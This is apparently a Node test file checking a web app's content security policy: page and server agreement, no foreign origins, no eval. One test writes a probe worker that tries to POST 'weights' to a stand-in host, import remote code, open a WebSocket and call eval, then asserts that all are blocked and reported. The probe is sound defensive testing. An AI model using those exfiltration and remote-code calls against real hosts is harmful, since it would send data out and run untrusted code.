// The content security policy: identical in the server and the page, active in workers, and
// sufficient for the page.

import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { policy, policyOf } from '../../scripts/policies.mjs';
import { inBrowsers, scratch } from './walk.mjs';

test('each page and the server carry the same policy', () => {
  for (const name of ['index.html', 'embed.html', 'hub.html']) {
    const inPage = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(readFileSync(name, 'utf8'))?.[1];
    // Only a header can forbid framing, not a page.
    assert.equal(`${inPage}; frame-ancestors ${name === 'embed.html' ? "'self'" : "'none'"}`, policyOf(name));
  }
  assert.equal(policyOf('index.html'), policy);
});

test('it allows no other origin, no inline script and no eval', () => {
  const sources = Object.fromEntries(policy.split('; ').map((line) => [line.split(' ')[0], line.split(' ').slice(1).join(' ')]));
  assert.equal(sources['default-src'], "'none'");
  assert.equal(sources['connect-src'], "'self'");
  assert.equal(sources['script-src'], "'self' 'wasm-unsafe-eval'");
  assert.equal(sources['worker-src'], "'self' blob:");
  assert.doesNotMatch(policy, /https?:|\*|'unsafe-/);
});

// The requests that code would try in order to send data away.
const folder = join(scratch, 'probe');
mkdirSync(folder);
writeFileSync(join(folder, 'probe.js'), `
  const elsewhere = 'https://elsewhere.invalid/';
  const stopped = [];
  addEventListener('securitypolicyviolation', (event) => stopped.push(event.effectiveDirective));
  const tries = {
    fetch: () => fetch(elsewhere, { method: 'POST', body: 'weights' }),
    import: () => import(elsewhere + 'x.js'),
    socket: () => new Promise((open, failed) => { const socket = new WebSocket('wss://elsewhere.invalid/'); socket.onopen = open; socket.onerror = failed; }),
    eval: async () => (0, eval)('1'),
  };
  const went = [];
  for (const [name, attempt] of Object.entries(tries)) await attempt().then(() => went.push(name), () => {});
  await new Promise((next) => setTimeout(next, 200));
  self.postMessage({ went, stopped: [...new Set(stopped)].sort() });
`);

const stopped = ['connect-src', 'script-src', 'script-src-elem'];

inBrowsers('the policy', (visit) => {
  test('a worker can send nothing to another origin, and what it tries is reported', () => visit({ mounts: { '/probe/': folder } }, async (visit) => {
    const found = await visit.tab.evaluate(() => new Promise((resolve, reject) => {
      const worker = new Worker('probe/probe.js', { type: 'module' });
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = ({ message }) => reject(new Error(message));
    }));
    assert.deepEqual(found.went, []);
    assert.deepEqual(found.stopped, stopped);
    // Reports must arrive, otherwise their absence in all other tests would prove nothing.
    const reported = () => [...new Set(visit.violations.map((violation) => violation['effective-directive']))].sort();
    for (let tries = 0; reported().length < stopped.length && tries < 50; tries += 1) await new Promise((next) => setTimeout(next, 100));
    assert.deepEqual(reported(), stopped);
    visit.violations = [];
    visit.errors = [];
    visit.requests = visit.requests.filter((url) => !url.includes('elsewhere.invalid'));
  }));
});
